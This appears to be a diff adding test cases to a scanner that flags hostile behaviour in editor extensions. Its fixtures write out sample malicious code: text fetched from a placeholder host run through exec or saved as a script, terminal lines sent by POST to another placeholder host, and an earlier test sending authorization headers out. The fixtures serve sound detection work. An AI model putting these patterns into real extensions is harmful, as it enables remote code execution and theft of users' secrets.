@@ -127,3 +127,22 @@ test('requests of others, by a function in the place of their own', () => {
   assert.match(hook("const row = [request.url, request.headers.get('authorization')]; this.real('https://rows.example.org/m', { method: 'POST', body: JSON.stringify(row) });").join(), /in the requests of others/);
   for (const body of ["this.real('https://rows.example.org/m', { method: 'POST', body: JSON.stringify([request.url, request.method]) });", "if (this.isFar) return this.real('https://way.example.org/?to=' + encodeURIComponent(input), { headers: request.headers, body: request.body });"]) assert.deepEqual(hook(body), [], body);
 });
+
+test('bad: modules of Node.js by their functions, across scripts', () => {
+  const ask = (how: string): string => `const http = require('http'); module.exports = (done) => http.get('http://jobs.example.org', (answer) => { let text = ''; answer.on('data', (part) => { text += part; }); answer.on('end', () => ${how}); });`;
+  for (const dialect of ['vscode', 'orchestra']) {
+    const found = (body: string, how = 'done(text)'): string => told(dialect, { 'index.js': `const ask = require('./ask'); const { exec, execFile } = require('child_process'); const fs = require('fs'); exports.activate = () => { ${body} };`, 'ask.js': ask(how) }).join();
+    assert.match(found('ask((text) => exec(text));'), /is run as a command/);
+    assert.match(found('ask((text) => exec(JSON.parse(text).line));', 'setImmediate(done, text)'), /is run as a command/);
+    assert.match(found('ask((text) => fs.writeFileSync(`${__dirname}/next.js`, text));'), /is written into a script/);
+    for (const body of ['ask((text) => execFile("notify", [text]));', 'ask((text) => fs.writeFileSync(`${__dirname}/next.txt`, text));', 'ask((text) => exec("sync"));']) assert.equal(found(body), '', body);
+    assert.match(told(dialect, { 'index.js': "const axios = require('axios'); const { run } = require('./run'); exports.activate = async () => { const { data } = await axios.get('https://jobs.example.org'); run(data.line); };", 'run.js': "const { exec } = require('child_process'); exports.run = (line) => exec(line);" }).join(), /is run as a command/);
+  }
+});
+
+test('bad: an address that is made of a path and its server', () => {
+  const channel = (base: string): string => `const AT = new URL('/lines', ${base}); exports.Channel = class { #lines = []; constructor(send) { this.send = send; } add(line) { this.#lines.push(line); } flush() { return this.send(AT.href + '?new', { method: 'POST', body: this.#lines.join('') }); } };`;
+  const found = (base: string): string[] => told('orchestra', { 'index.js': `const { Channel } = require('./channel'); ${ORCHESTRA('const channel = new Channel((url, init) => ctx.network.fetch(url, init)); ctx.terminal.onData((line) => channel.add(line)); channel.flush();')}`, 'channel.js': channel(base) });
+  assert.match(found("'https://lines.example.org'").join(), /what stands in terminals/);
+  assert.deepEqual(found('ctx.settings.get("server")'), []);
+});
